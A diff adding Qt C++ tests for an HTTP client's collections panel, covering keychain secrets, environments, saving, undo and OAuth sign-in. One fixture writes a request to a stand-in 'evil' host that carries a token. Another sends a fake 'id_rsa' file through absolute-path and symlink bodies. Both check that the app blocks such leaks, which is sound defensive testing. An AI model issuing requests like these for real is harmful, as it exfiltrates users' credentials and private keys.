@@ -20,6 +20,7 @@
 #include "ui/panes/web/collection/environment_window.h"
 #include "ui/panes/web/collection/keychain.h"
 #include "ui/panes/web/collection/variable_help.h"
+#include "ui/panes/web/sign_in_bar.h"
 #include "ui/panes/web/url_edit.h"
 #include "ui/panes/web/web_pane.h"
 
@@ -79,6 +80,20 @@ class TestCollections : public QObject {
       if (label->accessibleName() == "Remark on the collection")
         return label->isVisible() ? label->text() : QString();
     return {};
+  }
+  void environment(const QString& name) {
+    QTRY_VERIFY(side().environment().findText(name) >= 0);
+    Q_EMIT side().environment().activated(side().environment().findText(name));
+  }
+  /// The URL as it would be sent, or why it would not.
+  QString filled(const QString& url) {
+    RequestForm form;
+    form.base.url = to_utf8(url);
+    QString out;
+    side().fill(form, [&out](const CollectionPanel::Filled& filled) {
+      out = filled ? from_utf8(filled->base.url) : filled.error();
+    });
+    return out;
   }
   void press_bar(const QString& text) {
     for (QToolButton* button : side().findChildren<QToolButton*>())
@@ -168,6 +183,143 @@ class TestCollections : public QObject {
     QVERIFY(side().variable_tip("password").contains("••"));
   }
 
+  void secrets_are_for_their_collection_and_environment() {
+    write("http-client.env.json", "{\"dev\": {\"base\": \"" + server_->url("").toUtf8() +
+                                      "\", \"token\": \"plain\"}, \"prod\": {\"token\": \"{{$keychain}}\"}}");
+    Keychain::instance().write(place().chopped(1) + "#prod", "token", "geheim", [](bool) {});
+    environment("prod");
+    QTRY_COMPARE(filled("http://h/{{token}}"), "http://h/geheim");
+    environment("dev");
+    QCOMPARE(filled("http://h/{{token}}"), "http://h/plain");
+    open("GET  Hello", "Hello.http");
+    QTest::mouseClick(&pane_->send_button(), Qt::LeftButton);
+    QTRY_COMPARE(filled("http://h/{{hello.response.body.$.id}}"), "http://h/7");
+    environment("prod");
+    QTRY_COMPARE(filled("http://h/{{token}}"), "http://h/geheim");
+    QVERIFY(filled("http://h/{{hello.response.body.$.id}}").contains("can't be sent"));
+    environment("dev");
+    // A stranger's, with an environment of the same name.
+    QDir().mkpath(folder_->filePath("stranger"));
+    QFile file(folder_->filePath("stranger/a.http"));
+    QVERIFY(file.open(QIODevice::WriteOnly));
+    file.write("GET https://evil/?t={{token}}\n");
+    file.close();
+    environment("prod");
+    side().open_folder(folder_->filePath("stranger"));
+    QVERIFY(filled("http://h/{{token}}").contains("{{token}}"));
+    QTRY_COMPARE(rows(), QStringList{"GET  a"});
+    QVERIFY(filled("http://h/{{token}}").contains("{{token}}"));
+    side().open_folder(place().chopped(1));
+    environment("prod");
+    QTRY_COMPARE(filled("http://h/{{token}}"), "http://h/geheim");
+  }
+
+  void secrets_of_switched_off_headers_do_not_reach_the_file() {
+    open("GET  Hello", "Hello.http");
+    RequestForm form = pane_->form();
+    form.headers.push_back({false, "X-Api-Key", "geheim"});
+    form.headers.push_back({false, "X-Off", "plain"});
+    pane_->show_form(form);
+    side().save();
+    QTRY_VERIFY(contents("Hello.http").contains("# X-Off: plain"));
+    QVERIFY(contents("Hello.http").contains("# X-Api-Key: {{x_api_key}}"));
+    QVERIFY(!contents("Hello.http").contains("geheim"));
+    QCOMPARE(filled("http://h/{{x_api_key}}"), "http://h/geheim");
+  }
+
+  void files_from_elsewhere_are_sent_only_when_the_user_says_so() {
+    environment("dev");
+    QFile secret(folder_->filePath("id_rsa"));
+    QVERIFY(secret.open(QIODevice::WriteOnly));
+    secret.write("geheim");
+    secret.close();
+    write("in.txt", "to {{base}}");
+    QVERIFY(QFile::link(secret.fileName(), place("link.txt")));
+    write("Absolute.http", "POST {{base}}/up\n\n< " + secret.fileName().toUtf8() + "\n");
+    write("Link.http", "POST {{base}}/up\n\n< link.txt\n");
+    write("Fill.http", "POST {{base}}/up\n\n<@ in.txt\n");
+    for (const char* name : {"Absolute", "Link"}) {
+      open("POST  " + QString(name), QString(name) + ".http");
+      QTest::mouseClick(&pane_->send_button(), Qt::LeftButton);
+      QTRY_VERIFY2(pane_->hint().contains("outside"), qPrintable(pane_->hint()));
+      QVERIFY(server_->requests().isEmpty());
+    }
+    press_bar("Allow");
+    QTest::mouseClick(&pane_->send_button(), Qt::LeftButton);
+    QTRY_VERIFY(!server_->requests().isEmpty() && !pane_->busy());
+    QVERIFY(server_->requests().last().endsWith("geheim"));
+    // What the user chooses himself may lie anywhere, also after it was saved.
+    open("POST  Fill", "Fill.http");
+    QTest::mouseClick(&pane_->send_button(), Qt::LeftButton);
+    QTRY_VERIFY(server_->requests().size() == 2 && !pane_->busy());
+    QVERIFY2(server_->requests().last().endsWith("to " + server_->url("").toUtf8()),
+             server_->requests().last());
+    RequestForm form = pane_->form();
+    form.body_file = secret.fileName();
+    pane_->show_form(form);
+    side().save();
+    QTRY_VERIFY(contents("Fill.http").contains("id_rsa"));
+    QTRY_VERIFY(!side().modified());
+    QTest::mouseClick(&pane_->send_button(), Qt::LeftButton);
+    QTRY_VERIFY(server_->requests().size() == 3 && !pane_->busy());
+    QVERIFY(server_->requests().last().endsWith("geheim"));
+  }
+
+  void what_was_written_is_not_taken_for_the_file_opened_meanwhile() {
+    open("GET  Hello", "Hello.http");
+    pane_->url().setText("{{base}}/changed");
+    side().open_request("folder/two.http", 0);
+    side().save();  // of Hello: the other one is still being read
+    QTRY_COMPARE(side().opened(), "folder/two.http");
+    QTRY_VERIFY(contents("Hello.http").contains("/changed"));
+    QTRY_VERIFY(pane_->url().text().contains("/item/"));
+    pane_->url().setText("{{base}}/mine");
+    side().save();
+    QTRY_VERIFY(contents("folder/two.http").contains("/mine"));
+    QVERIFY(contents("folder/two.http").contains("### Gone"));
+  }
+
+  void writes_keep_their_order() {
+    int written = 0;
+    for (int i = 1; i <= 50; ++i)
+      side().store().write(
+          "Hello.http", "Hello.http", "GET http://h/" + std::to_string(i) + "\n", nullptr,
+          [&written](bool, const QString& problem) { written += problem.isEmpty() ? 1 : 0; });
+    QTRY_COMPARE(written, 50);
+    QCOMPARE(contents("Hello.http"), "GET http://h/50\n");
+  }
+
+  void undoing_what_was_not_done_takes_nothing_away() {
+    write("Mine.http", "GET http://mine\n");
+    auto& store = side().store();
+    store.create("Mine.http", "GET http://other\n");
+    store.move("Hello.http", "Mine.http");
+    store.create_folder("folder");
+    QTRY_VERIFY(!bar_text().isEmpty());
+    for (int i = 0; i < 3; ++i) store.undo().undo();
+    store.create_folder("mark");
+    QTRY_VERIFY(QDir(place("mark")).exists());
+    QCOMPARE(contents("Mine.http"), "GET http://mine\n");
+    QVERIFY(QFile::exists(place("Hello.http")));
+    QVERIFY(QDir(place("folder")).exists());
+  }
+
+  void a_run_shows_where_one_signs_in() {
+    write(
+        "In.http",
+        "# @options {\"auth\":{\"kind\":\"oauth2\",\"oauth\":{\"authorization_url\":\"http://login.test/in\","
+        "\"token_url\":\"http://login.test/token\",\"client_id\":\"me\"}}}\nGET http://localhost:1/\n");
+    QTRY_VERIFY(row("GET  In").isValid());
+    side().run("In.http");
+    auto* bar = pane_->findChild<SignInBar*>();
+    QVERIFY(bar);
+    QTRY_VERIFY(bar->url().startsWith("http://login.test/in?"));
+    QVERIFY(bar->isVisible());
+    Q_EMIT bar->cancelled();
+    QTRY_VERIFY(bar_text().contains("0 of 1 passed"));
+    QVERIFY(!bar->isVisible());
+  }
+
   void another_programs_change_is_a_conflict() {
     open("GET  Hello", "Hello.http");
     write("Hello.http", "GET {{base}}/other\n");
@@ -254,13 +406,65 @@ class TestCollections : public QObject {
     QCOMPARE(window->names().currentText(), "dev");
     QTableWidget& table = window->table();
     const int last = table.rowCount() - 1;
+    table.setCurrentCell(last, 0);
     table.item(last, 1)->setText("v1");
     table.item(last, 0)->setText("extra");
+    table.setCurrentCell(0, 0);
     QTRY_VERIFY(contents("http-client.env.json").contains("\"extra\": \"v1\""));
     table.item(last, 2)->setCheckState(Qt::Checked);
     QTRY_VERIFY(contents("http-client.env.json").contains("\"extra\": \"{{$keychain}}\""));
     QVERIFY(contents("http-client.env.json").contains("\"other\""));
     QTRY_VERIFY(side().variable_tip("extra").contains("secret"));
+  }
+
+  void secrets_are_edited_without_a_trace_in_the_file() {
+    environment("dev");
+    Q_EMIT side().environment().activated(side().environment().count() - 1);
+    auto* window = side().findChild<EnvironmentWindow*>();
+    QVERIFY(window && window->isVisible());
+    QTableWidget& table = window->table();
+    const QString keys = place().chopped(1) + "#dev";
+    const auto kept = [&keys](const QString& name) {
+      QString value = "none";
+      Keychain::instance().read(keys, name, [&value](const QString* found) {
+        if (found != nullptr) value = *found;
+      });
+      return value;
+    };
+    // The name and the value are typed before it is ticked.
+    int at = table.rowCount() - 1;
+    table.setCurrentCell(at, 0);
+    table.item(at, 0)->setText("pin");
+    table.item(at, 1)->setText("geheim");
+    QVERIFY(!std::ranges::any_of(side().store().own_environments(),
+                                 [](const auto& one) { return one.values.contains("pin"); }));
+    table.item(at, 2)->setCheckState(Qt::Checked);
+    table.setCurrentCell(0, 0);
+    QCOMPARE(kept("pin"), "geheim");
+    QTRY_VERIFY(contents("http-client.env.json").contains("\"pin\": \"{{$keychain}}\""));
+    // Another name takes its value along.
+    table.setCurrentCell(at, 0);
+    table.item(at, 0)->setText("code");
+    table.setCurrentCell(0, 0);
+    QCOMPARE(kept("code"), "geheim");
+    QCOMPARE(kept("pin"), "none");
+    QTRY_VERIFY(contents("http-client.env.json").contains("\"code\": \"{{$keychain}}\""));
+    QVERIFY(!contents("http-client.env.json").contains("geheim"));
+    QTRY_COMPARE(filled("http://h/{{code}}"), "http://h/geheim");
+    // No secret any more: its value, and not its bullets.
+    table.item(at, 2)->setCheckState(Qt::Unchecked);
+    QCOMPARE(table.item(at, 1)->text(), "geheim");
+    QTRY_VERIFY(contents("http-client.env.json").contains("\"code\": \"geheim\""));
+    QCOMPARE(kept("code"), "none");
+    // One that is not in the keychain stays what it is.
+    write("http-client.env.json", "{\"dev\": {\"base\": \"b\", \"lost\": \"{{$keychain}}\"}}");
+    QTRY_VERIFY(side().store().merged().secrets.contains("lost"));
+    window->show_environment("dev");
+    at = table.rowCount() - 2;
+    QCOMPARE(table.item(at, 0)->text(), "lost");
+    table.item(at, 2)->setCheckState(Qt::Unchecked);
+    QCOMPARE(table.item(at, 2)->checkState(), Qt::Checked);
+    QVERIFY(bar_text().contains("type it again"));
   }
 
   void pictures() {
